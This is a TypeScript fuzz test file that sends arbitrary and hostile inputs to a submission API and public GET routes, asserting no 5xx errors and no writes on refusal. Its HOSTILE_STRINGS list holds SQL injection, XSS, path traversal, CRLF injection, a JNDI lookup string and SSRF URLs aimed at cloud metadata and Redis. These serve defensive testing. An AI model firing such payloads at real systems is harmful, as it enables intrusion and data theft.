/**
 * Bad input, generated (fast-check): the submission API gets arbitrary JSON, hostile values in
 * every field, raw non-JSON bodies and wrong content types; every public GET route gets arbitrary
 * query strings and path parameters. Properties: never a 5xx; a refusal is a 4xx with the JSON
 * error shape `{ error: { code, message } }`; a refused submission leaves no row behind.
 */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { TestDatabase } from '@/db/test-support/test-database';
import { startReferenceServer, type ReferenceServer } from '@/lib/reference-server/reference-server';
import { fillPattern, importRoute, listApiRoutes } from './test-support/route-catalog';
import { anonymous, params, req, setupApiTest, signUp, TEST_ORIGIN, type Actor } from './test-support/api-test';
import { sharedChatSubmission } from '@/app/api/test-support/chat-submission';

vi.mock('next/server', async (importOriginal) => ({ ...(await importOriginal<typeof import('next/server')>()), connection: async () => {} }));

let t: TestDatabase;
let ref: ReferenceServer;
let alice: Actor;
let list: typeof import('./v1/endpoints/route');

const TABLES = ['endpoints', 'providers', 'models', 'endpoint_submissions', 'endpoint_verifications', 'audit_events', 'api_tokens'];

async function counts(): Promise<Record<string, number>> {
  const out: Record<string, number> = {};
  for (const table of TABLES) out[table] = Number((await t.sql.unsafe(`select count(*)::int as n from "${table}"`))[0]!.n);
  return out;
}

/** Hostile strings seen in the wild (injection, traversal, smuggling, unicode tricks, size). */
const HOSTILE_STRINGS = [
  "'; drop table endpoints; --",
  '" or 1=1 --',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '%00',
  'a\u0000b',
  'line\r\nX-Injected: 1',
  '\u202eevil\u202c',
  '\u2028',
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'http://169.254.169.254/latest/meta-data/',
  'http://[::1]/',
  'gopher://127.0.0.1:6379/_INFO',
  'javascript:alert(1)',
  'x'.repeat(100_000),
  '😀'.repeat(5000),
  '\ud800',
  ' ',
  '',
];

const hostileValue = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.string({ maxLength: 300 }),
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue(), { maxLength: 4 }),
  fc.dictionary(fc.string({ maxLength: 10 }), fc.jsonValue(), { maxKeys: 4 }),
);

const FIELDS = [
  'provider',
  'model',
  'proposedModel',
  'baseUrl',
  'protocol',
  'apiModelId',
  'apiKey',
  'region',
  'hardware',
  'engine',
  'precision',
  'speculativeDecoding',
  'draftLength',
  'deploymentKind',
  'contact',
  'notes',
  '__proto__',
  'constructor',
  'status',
  'ownerUserId',
  'role',
  'allowPrivate',
  'id',
];

function validBody(): Record<string, unknown> {
  return sharedChatSubmission(ref.url, { provider: 'Fuzz Co', contact: 'fuzz@fuzz.example' });
}

async function expectErrorShape(res: Response): Promise<void> {
  expect(res.headers.get('content-type') ?? '').toContain('application/json');
  const body = (await res.clone().json()) as { error?: { code?: unknown; message?: unknown; fields?: unknown } };
  expect(typeof body.error?.code).toBe('string');
  expect(typeof body.error?.message).toBe('string');
}

beforeAll(async () => {
  t = await setupApiTest({ TOKENPACE_MAX_PENDING_SUBMISSIONS: '1000' });
  ref = await startReferenceServer({ port: 0, tps: 5000, ttftMs: 2, outputTokens: 8, tokensPerChunk: 4 });
  await t.sql`insert into providers (slug, name) values ('fuzz-co', 'Fuzz Co')`;
  await t.sql`insert into models (slug, name) values ('tokenpace-reference', 'Tokenpace reference')`;
  (await import('./_lib/rate-limit')).configureRateLimits({
    submission: { points: 1_000_000, durationSeconds: 60 },
    publicRead: { points: 1_000_000, durationSeconds: 60 },
    tokenUse: { points: 1_000_000, durationSeconds: 60 },
  });
  list = await import('./v1/endpoints/route');
  alice = await signUp('fuzz@fuzz.example');
});

afterAll(async () => {
  await ref?.close();
  await t?.drop();
});

describe('POST /api/v1/endpoints under hostile bodies', () => {
  it('arbitrary JSON documents: 400 JSON error, nothing written', async () => {
    await fc.assert(
      fc.asyncProperty(fc.jsonValue(), async (value) => {
        const before = await counts();
        const res = await list.POST(req(alice, 'POST', '/api/v1/endpoints', JSON.stringify(value)));
        expect(res.status).toBe(400);
        await expectErrorShape(res);
        expect(await counts()).toEqual(before);
      }),
      { numRuns: 150 },
    );
  });

  it('valid bodies with one to three fields replaced by hostile values: 201 only when valid, else 4xx and nothing written', async () => {
    let accepted = 0;
    let refused = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.constantFrom(...FIELDS), fc.oneof(hostileValue, fc.constant(undefined))), { minLength: 1, maxLength: 3 }),
        async (edits) => {
          const body = validBody();
          for (const [k, v] of edits) {
            if (v === undefined) delete body[k];
            else Object.defineProperty(body, k, { value: v, enumerable: true, configurable: true, writable: true });
          }
          const before = await counts();
          const res = await list.POST(req(alice, 'POST', '/api/v1/endpoints', JSON.stringify(body)));
          expect(res.status).toBeLessThan(500);
          if (res.status === 201) {
            accepted++;
            const after = await counts();
            expect(after.endpoints).toBe(before.endpoints! + 1);
            const json = (await res.json()) as { endpoint: { status: string; ownerUserId: string } };
            // whatever was sent, a submission is pending and belongs to its submitter
            expect(json.endpoint.status).toBe('pending');
            expect(json.endpoint.ownerUserId).toBe(alice.userId);
          } else {
            refused++;
            expect(res.status).toBeGreaterThanOrEqual(400);
            await expectErrorShape(res);
            expect(await counts()).toEqual(before);
          }
        },
      ),
      { numRuns: 250 },
    );
    expect(refused).toBeGreaterThan(100);
    expect(accepted + refused).toBe(250);
  });

  it('raw bodies, wrong content types and oversize bodies: 400, nothing written', async () => {
    const before = await counts();
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.string({ maxLength: 200 }),
          fc.string({ unit: 'binary', maxLength: 200 }),
          fc.constantFrom('{', '{"a":', 'null', '[]', '"x"', '1e999', '\uFEFF{}', '{"provider":"a"}{"x":1}'),
        ),
        fc.constantFrom('application/json', 'text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', ''),
        async (raw, type) => {
          const headers: Record<string, string> = { ...alice.headers, origin: TEST_ORIGIN };
          if (type) headers['content-type'] = type;
          const res = await list.POST(new Request(`${TEST_ORIGIN}/api/v1/endpoints`, { method: 'POST', headers, body: raw }));
          expect(res.status).toBe(400);
          await expectErrorShape(res);
        },
      ),
      { numRuns: 150 },
    );
    const huge = await list.POST(req(alice, 'POST', '/api/v1/endpoints', JSON.stringify({ ...validBody(), notes: 'x'.repeat(200_000) })));
    expect(huge.status).toBe(400);
    expect(((await huge.json()) as { error: { field: string } }).error.field).toBe('body');
    const invalidUtf8 = await list.POST(
      new Request(`${TEST_ORIGIN}/api/v1/endpoints`, {
        method: 'POST',
        headers: { ...alice.headers, 'content-type': 'application/json', origin: TEST_ORIGIN },
        body: new Uint8Array([0x7b, 0xff, 0xfe, 0x7d]),
      }),
    );
    expect(invalidUtf8.status).toBe(400);
    expect(await counts()).toEqual(before);
  });
});

describe('public GET routes under arbitrary query strings and path parameters', () => {
  const routes = listApiRoutes().filter((r) => !r.pattern.startsWith('/api/auth'));
  const KNOWN_PARAMS = [
    'model',
    'workload',
    'window',
    'region',
    'basis',
    'at',
    'limit',
    'cursor',
    'timeline',
    'granularity',
    'range',
    'provider',
    'format',
    'endpoint',
    'from',
    'to',
    'id',
  ];
  const queryArb = fc.array(
    fc.tuple(
      fc.oneof(fc.constantFrom(...KNOWN_PARAMS), fc.string({ maxLength: 12 })),
      fc.oneof(
        fc.constantFrom(...HOSTILE_STRINGS.filter((s) => s.length < 1000)),
        fc.string({ maxLength: 40 }),
        fc.integer().map(String),
        fc.double().map(String),
      ),
    ),
    { maxLength: 4 },
  );
  const idArb = fc.oneof(
    fc.string({ maxLength: 30 }),
    fc.integer().map(String),
    fc.constantFrom('0', '-1', '1e3', '2147483648', '99999999999999999999', '1.5', ' 1', '0x10', 'NaN', '%00', '..'),
  );

  it.each(routes.map((r) => [r.pattern, r] as const))('%s', async (_pattern, route) => {
    const mod = await importRoute(route.file);
    const get = mod.GET as ((r: Request, c: unknown) => Promise<Response>) | undefined;
    if (typeof get !== 'function') return;
    let calls = 0;
    await fc.assert(
      fc.asyncProperty(queryArb, idArb, async (query, id) => {
        const qs = new URLSearchParams(query).toString();
        const path = fillPattern(route.pattern, { id: encodeURIComponent(id), slug: encodeURIComponent(id) });
        const res = await get(req(anonymous, 'GET', `${path}${qs ? `?${qs}` : ''}`), params({ id, slug: id }));
        calls++;
        expect(res.status, `${path}?${qs}`).toBeLessThan(500);
        if (res.status >= 400) await expectErrorShape(res);
      }),
      { numRuns: 40 },
    );
    expect(calls).toBe(40);
  });
});
